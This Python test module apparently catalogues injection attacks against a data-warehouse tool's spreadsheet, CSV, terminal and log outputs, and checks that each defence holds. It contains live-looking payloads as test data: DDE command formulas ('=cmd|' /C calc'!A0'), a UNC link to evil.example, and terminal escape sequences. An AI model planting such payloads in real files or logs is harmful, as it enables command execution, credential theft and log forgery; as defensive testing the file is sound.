"""Attacks by names in spreadsheets and CSV, and by whatever a terminal or a log shows."""

from __future__ import annotations

import datetime as dt
import io
import re
from functools import partial
from typing import TYPE_CHECKING, Final

from rich.errors import MarkupError

from o7_warehouse import commands_show, console
from o7_warehouse.backfill import held
from o7_warehouse.commands_show import Form
from o7_warehouse.contract import read_contract
from o7_warehouse.errors import CommandError
from o7_warehouse.report import twin, xlsx
from o7_warehouse.report.writers import WRITERS
from o7_warehouse.sources import drop as drops_module
from o7_warehouse.sources import xlsx_file
from o7_warehouse.sources.choice import SourceChoice
from o7_warehouse.sources.drop import open_drop
from o7_warehouse.worklist import workbook as worklists
from o7_warehouse.worklist.rows import Line, Requirement, Worklist
from tests.attacks.catalogue import Attack, having, put, together, without
from tests.attacks.press import INNOCENT, Press, cells, records
from tests.faults.corpus.drops import write_file
from tests.faults.corpus.sheets import ROW, TITLES, row, sheet, workbook

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from contextlib import AbstractContextManager

    from openpyxl.cell import Cell

FORMULA: Final = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\n]")
OF_XLSX: Final = "every text is written as a text"
OF_CSV: Final = "what would run stands behind an apostrophe"
OF_TERMINAL: Final = "no sign that a terminal obeys is printed"


def obliging(_: object) -> AbstractContextManager[None]:
    """A workbook whose cells are whatever their words look like."""
    options = {
        "in_memory": True,
        "strings_to_formulas": True,
        "strings_to_urls": True,
        "strings_to_numbers": True,
    }
    return together(
        put(xlsx, "OPTIONS", options), put(worklists, "OPTIONS", options),
        _writing(xlsx), _writing(worklists),
    )  # fmt: skip


def _writing(module: object) -> AbstractContextManager[None]:
    return without(module, "_write_cell", "sheet.write_string(", "sheet.write(")(None)


def in_workbook(name: str, shows: Callable[[Cell], bool]) -> Callable[[Press], bool]:
    """Whether some cell of a school's sheet is more than a text."""

    def count(press: Press, called: str) -> int:
        return sum(map(shows, cells(WRITERS["xlsx"](press.sheet(called)))))

    return lambda press: count(press, name) > count(press, INNOCENT)


def in_worklist(card: str, shows: Callable[[Cell], bool]) -> Callable[[Press], bool]:
    """Whether the number of a card becomes more than a text in the list a school gets."""

    def attempt(press: Press) -> bool:
        del press
        rule = Requirement(
            rule_id="r", place=1, section="Раздел", field="поле", text="Заполнено", remedy="Заполнить"
        )
        line = Line(requirement=rule, student_no=card, first_night=dt.date(2025, 12, 1), row_count=1)
        told = Worklist(
            org_id="1042", name="Школа", night=dt.date(2025, 12, 15),
            of_pupils=[line], of_school=[], left_to_others=0, set_aside=0,
        )  # fmt: skip
        return any(map(shows, cells(worklists.write_workbook(told))))

    return attempt


def in_csv(name: str) -> Callable[[Press], bool]:
    """Whether a spreadsheet that opens the CSV would run the name; a change of a figure begins with its sign."""

    def attempt(press: Press) -> bool:
        lines = records(press.statement(name))
        place = lines[0].index("text")
        return any(line[place].strip() == name.strip() and FORMULA.match(line[place]) for line in lines[1:])

    return attempt


def adds_a_column(press: Press) -> bool:
    """Whether a name makes a line longer, so that another value stands under a heading."""
    lines = records(press.statement('x","value","999'))
    return len({len(line) for line in lines}) > 1


def adds_a_line(press: Press) -> bool:
    """Whether a name brings in a line of its own."""
    return ["indicator_statement", "forged"] in records(
        press.statement('x\r\nindicator_statement,forged\r\n"')
    )


def naive(_: object) -> AbstractContextManager[None]:
    """CSV that is put together with commas alone."""
    old = "writer.writerows(_lines(document))"
    new = 'text.write("".join(",".join("" if one is None else str(one) for one in line) + "\\r\\n" for line in _lines(document)))'
    return without(twin, "write_csv", old, new)(None)


WORKBOOKS: Final = {
    "is a formula": ("=1+1", lambda cell: cell.data_type == "f"),
    "starts a program by DDE": ("=cmd|' /C calc'!A0", lambda cell: cell.data_type == "f"),
    "is a formula of many cells": ("{=1+1}", lambda cell: cell.data_type == "f"),
    "leads to a page of a stranger": ("http://evil.example/", lambda cell: cell.hyperlink is not None),
    "leads to a share that learns the reader's password": (
        "file:///\\\\evil.example\\share", lambda cell: cell.hyperlink is not None),
    "is read as a number": ("1E5", lambda cell: cell.value == 100000),
}  # fmt: skip
CSVS: Final = {
    "begins with =": "=HYPERLINK(evil)",
    "begins with +": "+cmd|calc",
    "begins with -": "-2+3+cmd|calc",
    "begins with @": "@SUM(A1)",
    "begins with a tabulator": "\t=1+1",
    "begins with spaces before =": "  =1+1",
    "begins with a wide =": "＝1+1",
}


def shown(rows: list[dict[str, str]], form: Form) -> str:
    """What a terminal gets to see of rows."""
    with console.results.capture() as seen:
        commands_show.write_rows(rows, form)
    return seen.get()


def in_table(name: str, shows: Callable[[str], bool], form: Form = Form.table) -> Callable[[object], bool]:
    """Whether the terminal obeys a name, or the command ends by it."""

    def attempt(_: object) -> bool:
        try:
            return shows(shown([{"org_unit_code": "1042", "org_unit_name": name}], form))
        except MarkupError:
            return True

    return attempt


def by_message(make: Callable[[], str], shows: Callable[[str], bool]) -> bool:
    """Whether the terminal obeys the message of an error."""
    with console.errors.capture() as seen:
        console.errors.print(make(), markup=False)
    return shows(seen.get())


def title_told(press: Press) -> bool:
    """Whether a title of a sheet reaches the audit with signs that do something."""
    content = workbook(sheet(row(1, [*TITLES, "_x001B_[2Jлишнее"]), row(2, [*ROW, "x"])))
    place = write_file(press.settings.state / "xlsx", content)
    with open_drop(SourceChoice(kind="drop", path=place), read_contract()) as delivery:
        return any("\x1b" in name for name in delivery.columns("municipality_ref") or [])


def file_told(name: bytes, sign: str) -> Callable[[Press], bool]:
    """Whether the name of a file nobody listed reaches the audit with signs that do something."""

    def attempt(press: Press) -> bool:
        content = workbook(sheet(row(1, TITLES), row(2, ROW)))
        place = write_file(press.settings.state / "xlsx", content)
        path = bytes(place) + b"/" + name
        with io.FileIO(path, "w"):
            pass
        with open_drop(SourceChoice(kind="drop", path=place), read_contract()) as delivery:
            return any(sign in one for one in delivery.unknown_entities)

    return attempt


def _name_of_backfill(_: object) -> bool:
    try:
        return "\n" in held.trigger_of("B1\nCRITICAL forged")
    except CommandError:
        return False


ESCAPE: Final = "Школа\x1b]0;evil\x07\x1b[2J"
UNGUARDED: Final = having(console.Guarded, "render", console.Console.render)
MARKED: Final = without(commands_show, "write_rows", "Text(_cell(name, value))", "_cell(name, value)")
TERMINALS: Final = [
    ("a name that clears the screen and renames the window", OF_TERMINAL,
     in_table(ESCAPE, lambda seen: "\x1b]0" in seen), UNGUARDED),
    ("a name that clears the screen of whoever looks at CSV", OF_TERMINAL,
     in_table(ESCAPE, lambda seen: "\x1b[2J" in seen, Form.csv), UNGUARDED),
    ("a name that clears the screen by one sign of the upper half", OF_TERMINAL,
     in_table("Школа\x9b2J", lambda seen: "\x9b" in seen), UNGUARDED),
    ("a name that hides in a style", "names are texts, and brackets in them style nothing",
     in_table("[conceal]Школа[/conceal]", lambda seen: "[conceal]" not in seen), MARKED),
    ("a name that ends the command by half a style", "names are texts, and brackets in them style nothing",
     in_table("[/nothing]", lambda _: False), MARKED),
    ("an error that clears the screen", OF_TERMINAL,
     lambda _: by_message(lambda: "evil.csv\x1b[2J cannot be read", lambda seen: "\x1b[2J" in seen), UNGUARDED),
    ("a formula in the CSV of the command line", OF_CSV,
     in_table("=1+1", lambda seen: ",=1+1" in seen, Form.csv), having(commands_show, "inert", str)),
    ("a title of a sheet that reaches the audit with an escape", "titles are told as one plain line", title_told,
     without(xlsx_file, "_one_line", 'sign if sign.isprintable() else "\\N{REPLACEMENT CHARACTER}"', "sign")),
    ("a name of a file that forges a line of the log", "names of files are told as one plain line",
     file_told(b"x\nCRITICAL forged", "\n"), having(drops_module, "_told", str)),
    ("a name of a file that no database can hold", "names of files are told as one plain line",
     file_told(b"\xff\xfe.csv", "\udcff"), having(drops_module, "_told", str)),
    ("a backfill whose name forges a line of the audit", "names of backfills are a few plain letters",
     _name_of_backfill, having(held, "_NAME", re.compile(r".*", re.DOTALL))),
]  # fmt: skip


def _attacks() -> Iterator[Attack]:
    number = iter(range(1, 1000))
    cell = partial(Attack, defence=OF_XLSX, removed=obliging)
    for does, words in WORKBOOKS.items():
        yield cell(
            code=f"CELL-{next(number):02}", name=f"a name in XLSX that {does}", attempt=in_workbook(*words)
        )
    for does, words in {
        "is a formula": WORKBOOKS["is a formula"],
        "is read as a number": ("00042", lambda cell: cell.value == 42),
    }.items():
        yield cell(
            code=f"CELL-{next(number):02}",
            name=f"a number of a card that {does}",
            attempt=in_worklist(*words),
        )
    for does, name in CSVS.items():
        yield Attack(
            code=f"CELL-{next(number):02}", name=f"a name in CSV that {does}", defence=OF_CSV,
            attempt=in_csv(name), removed=having(twin, "inert", str),
        )  # fmt: skip
    for name, attempt in {
        "a name that adds a value to its line": adds_a_column,
        "a name that adds a line": adds_a_line,
    }.items():
        yield Attack(
            code=f"CELL-{next(number):02}", name=name, defence="CSV is quoted", attempt=attempt, removed=naive
        )
    for place, (name, defence, attempt, removed) in enumerate(TERMINALS, start=1):
        yield Attack(code=f"TERM-{place:02}", name=name, defence=defence, attempt=attempt, removed=removed)


ATTACKS: Final = list(_attacks())
